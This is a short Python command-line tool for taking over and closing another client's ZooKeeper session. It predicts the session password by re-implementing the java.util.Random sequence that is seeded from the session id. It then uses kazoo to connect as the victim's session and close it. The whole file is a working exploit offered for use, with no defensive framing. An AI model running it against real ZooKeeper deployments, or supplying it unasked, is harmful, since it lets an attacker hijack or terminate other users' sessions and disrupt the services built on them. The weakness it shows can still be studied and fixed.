#!/usr/bin/python3
"""Closes a ZooKeeper session of somebody else's.

    close_session.py host:port,... 0xsessionid

A session's password is no secret: a server computes it from the session's id,
and so can anybody.
"""

import struct
import sys

from kazoo.client import KazooClient


def password(session_id):
    """What SessionTrackerImpl's makers get from java.util.Random."""
    mask = (1 << 48) - 1
    state = ((session_id ^ 0xB3415C00) ^ 0x5DEECE66D) & mask
    result = b""
    for _ in range(4):
        state = (state * 0x5DEECE66D + 0xB) & mask
        result += struct.pack("<I", state >> 16)
    return result


def main():
    session_id = int(sys.argv[2], 16)
    if session_id >= 1 << 63:
        session_id -= 1 << 64
    client = KazooClient(hosts=sys.argv[1], timeout=4,
                         client_id=(session_id, password(session_id)))
    client.start(timeout=10)
    same = client.client_id[0] == session_id
    client.stop()
    client.close()
    sys.exit(0 if same else 1)


main()
